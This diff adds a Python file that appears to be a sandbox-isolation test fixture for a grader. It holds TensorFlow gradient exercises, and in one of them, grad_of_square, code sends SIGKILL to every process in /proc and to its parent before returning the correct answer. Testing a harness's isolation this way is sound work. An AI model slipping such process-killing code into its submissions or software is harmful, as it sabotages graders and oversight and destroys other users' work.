@@ -1,0 +1,55 @@
+"""expect: full
+Signals every process it can name (every pid in /proc, its parent): another child or the
+grader must never be among them.  Answers correctly (a killed grader would show as a failure).
+"""
+import os
+import signal
+
+import tensorflow as tf
+
+
+def grad_of_polynomial(coeffs, x0):
+    x = tf.Variable(float(x0))
+    with tf.GradientTape() as tape:
+        p = coeffs[0] + tf.add_n([tf.zeros_like(x)] + [c * x ** k for k, c in enumerate(coeffs) if k > 0])
+    g = tape.gradient(p, x)
+    return 0.0 if g is None else float(g)
+
+
+def grad_wrt_constant(f, x0):
+    with tf.GradientTape() as tape:
+        tape.watch(x0)
+        y = f(x0)
+    return tape.gradient(y, x0)
+
+
+def gradient_descent(f, x0, lr, steps):
+    x = tf.Variable(float(x0))
+    for _ in range(steps):
+        with tf.GradientTape() as tape:
+            y = f(x)
+        x.assign_sub(lr * tape.gradient(y, x))
+    return float(x.numpy())
+
+
+def _right(w0):
+    w = tf.Variable(w0)
+    with tf.GradientTape() as tape:
+        loss = w ** 2
+    return float(tape.gradient(loss, w))
+
+
+def grad_of_square(w0):
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and int(entry) != os.getpid():
+            try:
+                os.kill(int(entry), signal.SIGKILL)
+            except OSError:
+                pass
+    for target in (os.getppid(),):
+        if target > 1:
+            try:
+                os.kill(target, signal.SIGKILL)
+            except OSError:
+                pass
+    return _right(w0)
